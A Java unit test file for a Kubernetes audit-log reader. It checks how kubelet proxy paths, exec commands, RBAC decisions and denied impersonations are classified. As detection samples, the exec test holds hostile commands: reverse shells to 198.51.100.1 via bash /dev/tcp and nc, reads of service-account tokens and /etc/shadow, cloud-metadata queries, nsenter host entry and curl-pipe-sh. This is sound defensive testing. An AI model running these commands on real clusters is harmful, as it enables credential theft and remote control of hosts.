package dev.picket.agent.capture.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.picket.event.ApiCall;
import dev.picket.event.Ask.Act;
import dev.picket.event.Ask.Proxied;
import dev.picket.event.Authority;
import dev.picket.event.CommandSign;
import dev.picket.event.Reply.Wished;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class AskedLineTest {
    @ParameterizedTest
    @CsvSource({
        "run/red/p/c?cmd=id&x=metrics,RUN,red,p,c",
        "exec/red/p/u-1/c?command=id,EXEC,red,p,c",
        "metrics/../run/red/p/c,RUN,red,p,c",
        "%72un/red/p/c,RUN,red,p,c",
        "portForward/red/p,PORT_FORWARD,red,p,''",
        "containerLogs/red/p/c,LOGS,red,p,c",
        "cri/exec/abc,EXEC,'','',''",
        "metrics/cadvisor,METRICS,'','',''",
        "pods?x=/run/,PODS,'','',''",
        "configz,CONFIGURATION,'','',''"
    })
    void read_proxyOfANode_saysWhatItsKubeletDoes(
            String path, Act act, String namespace, String pod, String container) {
        var proxied = onNode(path).ask().proxied();

        assertThat(proxied.act()).isEqualTo(act);
        assertThat(List.of(proxied.namespace(), proxied.pod(), proxied.container()))
                .containsExactly(namespace, pod, container);
    }

    @Test
    void read_runThroughANode_keepsProgramAndSigns() {
        var call = onNode("run/red/p/c?cmd=/bin/cat%20/var/run/secrets/kubernetes.io/serviceaccount/token");

        assertThat(call.program()).isEqualTo("cat");
        assertThat(call.ask().signs()).containsExactly(CommandSign.SERVICE_ACCOUNT_TOKEN);
        assertThat(call.ask().proxied()).isEqualTo(new Proxied("/run/red/p/c", Act.RUN, "red", "p", "c"));
    }

    @ParameterizedTest
    @CsvSource({
        "command=sh&command=-c&command=cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2F%2Fserviceaccount%2Ftoken,SERVICE_ACCOUNT_TOKEN",
        "c%6Fmmand=cat&command=/proc/1/root%2Fetc/shadow,CREDENTIAL_FILE",
        "command=curl&command=http://169.254.169.254/latest/,CLOUD_METADATA",
        "command=bash&command=-c&command=bash%20-i%20>%26%20/dev/tcp/198.51.100.1/80,NETWORK_SHELL",
        "command=nc&command=-e&command=/bin/sh&command=198.51.100.1&command=80,NETWORK_SHELL",
        "command=nsenter&command=-t&command=1,ENTERS_HOST",
        "command=sh&command=-c&command=curl+http://x/y|sh,DOWNLOAD_AND_RUN",
        "command=tar&command=cf&command=-&command=/data,COPY",
        "command=printenv,ENVIRONMENT"
    })
    void read_exec_saysWhatItsCommandIsFor(String query, CommandSign sign) {
        assertThat(only(AuditLine.exec("a", query)).ask().signs()).contains(sign);
    }

    @ParameterizedTest
    @CsvSource({"command=ls&command=-l&command=/tmp", "command=psql&command=-c&command=select%201"})
    void read_ordinaryExec_showsNothing(String query) {
        assertThat(only(AuditLine.exec("a", query)).ask().signs()).isEmpty();
    }

    @Test
    void read_query_keepsWhatWasAskedFor() {
        var ask = only(AuditLine.get("a")
                        .text(
                                "requestURI",
                                "/api/v1/secrets?fieldSelector=metadata.name%3Ddb&labelSelector=owner%3Dhelm&fieldManager=kubectl&dryRun=All"))
                .ask();

        assertThat(ask.fieldSelector()).isEqualTo("metadata.name=db");
        assertThat(ask.labelSelector()).isEqualTo("owner=helm");
        assertThat(ask.fieldManager()).isEqualTo("kubectl");
        assertThat(ask.dryRun()).isTrue();
        assertThat(ask.path()).isEmpty();
    }

    @Test
    void read_requestForNoResource_keepsItsPath() {
        var call = only(AuditLine.get("a").without("objectRef").text("requestURI", "//healthz/../metrics?x=y"));

        assertThat(call.ask().path()).isEqualTo("/metrics");
    }

    @Test
    void read_reasonOfRbac_saysWhichBindingAllowedIt() {
        var authority = only(AuditLine.get("a").raw("annotations", """
                {'authorization.k8s.io/decision':'allow','authorization.k8s.io/reason':'RBAC: allowed by RoleBinding \\"b/red\\" of Role \\"r\\" to ServiceAccount \\"s/red\\"'}""")).authority();

        assertThat(authority.basis()).isEqualTo(Authority.Basis.RBAC);
        assertThat(authority.grant())
                .isEqualTo(new Authority.Grant("RoleBinding", "red", "b", "Role", "r", "ServiceAccount", "red/s"));
    }

    @Test
    void read_emptyReason_isNoReason() {
        assertThat(only(AuditLine.get("a")).authority().basis()).isEqualTo(Authority.Basis.UNREASONED);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "groups #system:masters# is forbidden: User #carol# cannot impersonate resource #groups# | groups | system:masters",
                "users.authentication.k8s.io #root# is forbidden: User #bob# cannot impersonate:user-info resource | users | root",
                "pods is forbidden: User #bob# cannot impersonate-on:user-info:list resource #pods# | '' | ''"
            })
    void read_deniedImpersonation_isSeen(String message, String kind, String name) {
        var reply = only(AuditLine.get("a")
                        .without("annotations")
                        .raw(
                                "responseStatus",
                                "{'code':403,'reason':'Forbidden','message':'" + message.replace("#", "\\\"") + "'}"))
                .reply();

        assertThat(reply.impersonationDenied()).isTrue();
        assertThat(reply.wished()).isEqualTo(new Wished(kind, name));
    }

    private static ApiCall onNode(String path) {
        return only(AuditLine.get("a")
                .text("requestURI", "/api/v1/nodes/n-1/proxy/" + path)
                .raw("objectRef", "{'resource':'nodes','name':'n-1','subresource':'proxy'}"));
    }

    private static ApiCall only(AuditLine line) {
        var readings = AuditLine.read(new AuditReader(), line.bytes());
        assertThat(readings).singleElement().isInstanceOf(Reading.Read.class);
        return ((Reading.Read) readings.getFirst()).call();
    }
}
